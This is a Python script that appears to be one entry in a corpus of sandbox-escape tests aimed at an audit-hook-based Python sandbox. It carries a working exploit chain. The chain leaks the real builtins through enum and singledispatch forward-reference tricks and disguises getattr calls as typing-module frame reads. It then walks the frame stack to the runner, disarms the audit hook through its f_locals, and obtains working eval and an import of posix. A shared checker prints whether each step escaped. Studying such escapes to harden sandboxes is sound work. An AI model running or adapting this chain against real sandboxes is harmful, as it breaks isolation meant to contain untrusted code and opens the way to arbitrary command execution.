# technique: typing._GenericAlias.__call__ runs self.__origin__(*args) in typing's own frame, and the audit hook trusts any frame of typing for frame and code reads and for sys._getframe: GA(real_getattr)(generator, 'gi_frame') is a gi_frame read "by typing"; the real getattr comes from the real builtins that 161 reaches (json.dumps' globals through enum namespaces, singledispatch and get_type_hints); getattr is not audited for f_back/f_locals, so the generator's frame leads to the runner's run() frame, whose f_locals hold the _Audit instance: armed = False, then the real eval and __import__ work; no dataclass field and no __getattr__ relay is involved
# source: typing._BaseGenericAlias.__call__ (calls its origin) + trusted-module frame checks in audit hooks; 161 for the real builtins

# ---- escape check: the same block in every snippet of the corpus ----------
# It reads no refused attribute and holds no dunder string constant itself,
# so that a refusal is always the technique's, never the checker's.
def dn(s):
    return '_' * 2 + s + '_' * 2


DANGER = frozenset((
    'os', 'posix', 'nt', 'sys', 'subprocess', '_posixsubprocess', 'builtins',
    'ctypes', '_ctypes', 'socket', '_socket', 'importlib', '_imp',
    '_frozen_importlib', '_frozen_importlib_external', 'gc', 'inspect', 'types',
    'io', '_io', 'codecs', '_codecs', 'warnings', '_warnings', 'copyreg',
    'posixpath', 'genericpath', 'marshal', 'pickle', '_pickle', 'runpy',
    'linecache', 'traceback', 'threading', '_thread', 'locale', 'shutil',
    'signal', '_signal', 'pty', 'platform', 'tokenize', 'zipimport', 'pkgutil',
    'site', 'sysconfig', 'tempfile', 'pathlib', 'select', 'mmap', 'fcntl',
    'resource', 'weakref', '_weakref', 'atexit', 'faulthandler', 'encodings',
    'asyncio', 'argparse', 'gettext', 'pdb', 'pydoc', 'code', 'codeop', 'dis',
    'json.tool', '__main__',
))
REAL = frozenset(('eval', 'exec', 'compile', 'open', 'getattr', 'setattr', 'delattr',
                  'globals', 'locals', 'vars', 'breakpoint', '_getframe', 'system',
                  'popen', 'fork', 'execv', 'get_referrers', dn('import')))


def what(o, depth=0):
    """What forbidden thing o is, or None."""
    try:
        t = type(o).__name__
        if t in ('frame', 'code'):
            return t + ' object'
        if t == 'module':
            n = o.__name__
            if n in DANGER or n.split('.')[0] in DANGER:
                return 'module ' + n
            return None
        if t == 'dict':
            if dn('import') in o and 'eval' in o and 'open' in o:
                try:
                    works = o['eval']('1+1') == 2
                except BaseException:
                    works = False
                return 'real builtins dict' + (' (eval works)' if works else '')
            if dn('builtins') in o:
                n = o['__name__'] if '__name__' in o else '?'
                inner = what(o[dn('builtins')], depth + 1) if depth < 3 else None
                return 'globals of ' + str(n) + (' -> ' + inner if inner else '')
            return None
        if t == 'builtin_function_or_method' and o.__name__ in REAL:
            n = o.__name__
            if n == 'eval':
                return 'real eval' + (' (works)' if o('1+1') == 2 else '')
            return 'real builtin ' + n
        if t in ('_Helper', 'Quitter', '_Printer'):
            return 'site builtin ' + t
    except BaseException:
        return None
    return None


def check(label, o):
    w = what(o)
    if w:
        print('ESCAPED', label + ':', w)
        return True
    print('BLOCKED', label + ': reached only a', type(o).__name__)
    return False


def attempt(label, fn):
    try:
        return check(label, fn())
    except BaseException as e:
        print('BLOCKED', label + ':', type(e).__name__, str(e)[:160])
        return False
# ---- end of the escape check ----------------------------------------------

import enum, functools, json, typing

GOT = []
FORWARD_REF = type(typing.get_args(typing.List['int'])[0])


def evaluate(self, globalns, localns, recursive_guard):
    GOT.append(globalns)
    return int


Spy = enum.Enum('Spy', [(dn('class'), FORWARD_REF), ('_evaluate', evaluate), ('ref', 1)])


@functools.singledispatch
def fun(x):
    return x


def globals_of(fn):
    E = enum.Enum('E', [(dn('annotations'), {'x': Spy.ref}), (dn('wrapped'), fn), ('a', 1)])
    fun.register(E.a)
    return GOT[-1]


B = globals_of(json.dumps)[dn('builtins')]  # the real builtins (161)
GA = type(typing.List[int])  # typing._GenericAlias
get = B['getattr']


def as_typing(fn, *args):
    # _BaseGenericAlias.__call__: result = self.__origin__(*args, **kwargs)
    return GA(fn, (int,), name='x')(*args)


def frames():
    fr = as_typing(get, g, 'gi_frame')
    out = []
    while fr is not None:
        out.append(fr)
        fr = get(fr, 'f_back')
    yield out


def direct_gi_frame():
    return get(g, 'gi_frame')


def disarm():
    for v in list(get(stack[-1], 'f_locals').values()):
        if type(v).__name__ == '_Audit':
            v.armed = False
    return B

g = frames()
attempt('real getattr(generator, gi_frame) from the snippet (audited)', direct_gi_frame)
stack = next(g)
attempt("GA(getattr)(generator, 'gi_frame'): the read runs in typing's frame", lambda: stack[0])
attempt("... f_back chain -> the runner's frame", lambda: stack[-1])
attempt('... audit hook disarmed through its f_locals: real builtins, eval works', disarm)
attempt("... real __import__('posix')", lambda: B[dn('import')]('posix'))
